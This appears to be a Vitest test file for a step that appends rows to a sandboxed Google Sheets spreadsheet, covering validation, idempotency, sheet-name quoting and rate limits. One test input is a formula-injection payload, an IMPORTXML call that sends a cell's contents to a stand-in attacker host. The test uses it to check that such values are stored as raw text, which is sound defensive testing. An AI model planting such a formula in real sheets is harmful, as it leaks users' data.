import { afterAll, beforeEach, expect, it } from 'vitest';
import { startTrial } from '../../../sandbox/trial.ts';
import { googleSheetsSandbox } from '../sandbox.ts';
import { appendRows } from './append-rows.ts';

const trial = await startTrial(googleSheetsSandbox);
beforeEach(() => trial.sandbox.reset());
afterAll(() => trial.close());

interface Stored {
  readonly sheets: Record<string, { readonly sheetId: number; readonly rows: unknown[][] }>;
}
const sheets = () =>
  (trial.sandbox.state['google-sheets']?.['spreadsheets'] as Record<string, Stored> | undefined)?.[
    '1sandboxCampaignResults'
  ]?.sheets;
const rows = () => sheets()?.['Results']?.rows;

it('puts cells below the titles that name them', async () => {
  expect(await trial.call(appendRows, appendRows.example)).toEqual({ firstRow: 4, rows: 2 });
  const reference = expect.stringMatching(/^mr-[0-9a-f]{20}$/);
  expect(rows()?.slice(3)).toEqual([
    ['de_leads_prozess-plattform_202603', 'google-ads', 42, null, reference],
    ['de_leads_prozess-plattform_202603', 'meta-ads', 17, null, reference],
  ]);
});

it.each(['=IMPORTXML("https://evil.example/?"&A1,"//a")', '+1', '-1+1', '@SUM(A1)', '2026-12-01', '007'])(
  'keeps %s as the text that it is',
  async (text) => {
    await trial.call(appendRows, { ...appendRows.example, rows: [{ Campaign: text }] });
    expect(rows()?.at(-1)?.[0]).toBe(text);
    const sent = trial.sandbox.requests.find(({ method }) => method === 'POST');
    expect(sent?.query).toContainEqual(['valueInputOption', 'RAW']);
  },
);

it('finds its rows among those of other steps, and says where they are', async () => {
  await trial.call(appendRows, appendRows.example, { idempotencyKey: 'case-2/step-1' });
  const ours = await trial.call(appendRows, appendRows.example);
  await trial.call(appendRows, appendRows.example, { idempotencyKey: 'case-3/step-1' });
  expect(ours).toEqual({ firstRow: 6, rows: 2 });
  expect(await trial.call(appendRows, appendRows.example, { mayHaveRun: true })).toEqual(ours);
  expect(rows()).toHaveLength(9);
});

it('writes nothing when a row names a column that there is not', async () => {
  const call = trial.call(appendRows, { ...appendRows.example, rows: [{ Campaign: 'x' }, { Clicks: 1 }] });
  await expect(call).rejects.toMatchObject({
    type: 'INVALID_INPUT',
    details: [expect.objectContaining({ fields: ['rows.1 unknown column Clicks'] })],
  });
  expect(rows()).toHaveLength(3);
});

it('refuses a value for the reference column, which holds its own', async () => {
  const named = [{ Campaign: 'x' }, { Campaign: 'y', Reference: 'ours' }];
  await expect(trial.call(appendRows, { ...appendRows.example, rows: named })).rejects.toMatchObject({
    type: 'INVALID_INPUT',
    details: [expect.objectContaining({ fields: ['rows.1 column Reference is for references'] })],
  });
  expect(rows()).toHaveLength(3);
});

it('is CONFLICT in a sheet without a reference column: nobody could tell whether it was done', async () => {
  rows()?.[0]?.pop();
  await expect(trial.call(appendRows, appendRows.example)).rejects.toMatchObject({
    type: 'CONFLICT',
    details: [expect.objectContaining({ fields: ['the sheet has no column Reference'] })],
  });
});

it.each([
  ['a spreadsheet', { spreadsheetId: '1sandboxNothingHere' }, 'NOT_FOUND'],
  ['a sheet', { sheet: "Pete's results" }, 'INVALID_INPUT'],
])('names the failure when there is no such %s', async (_what, change, type) => {
  await expect(trial.call(appendRows, { ...appendRows.example, ...change })).rejects.toMatchObject({ type });
});

it('quotes the title of a sheet', async () => {
  Object.assign(sheets() ?? {}, { "Pete's results": { sheetId: 5, rows: [['Campaign', 'Reference']] } });
  const input = { ...appendRows.example, sheet: "Pete's results", rows: [{ Campaign: 'x' }] };
  expect(await trial.call(appendRows, input)).toEqual({ firstRow: 2, rows: 1 });
});

it('waits as long as Google says when the quota of a minute is used up', async () => {
  const details = [{ reason: 'RATE_LIMIT_EXCEEDED' }, { retryDelay: '31.5s' }];
  const body = { error: { code: 429, message: 'Quota exceeded', status: 'RESOURCE_EXHAUSTED', details } };
  trial.sandbox.failNext({ tool: 'google-sheets', fault: { status: 429, body } });
  await expect(trial.call(appendRows, appendRows.example)).rejects.toMatchObject({
    type: 'RATE_LIMITED',
    nextRetryDelay: 31_500,
    details: [expect.objectContaining({ vendorCode: 'RATE_LIMIT_EXCEEDED' })],
  });
});
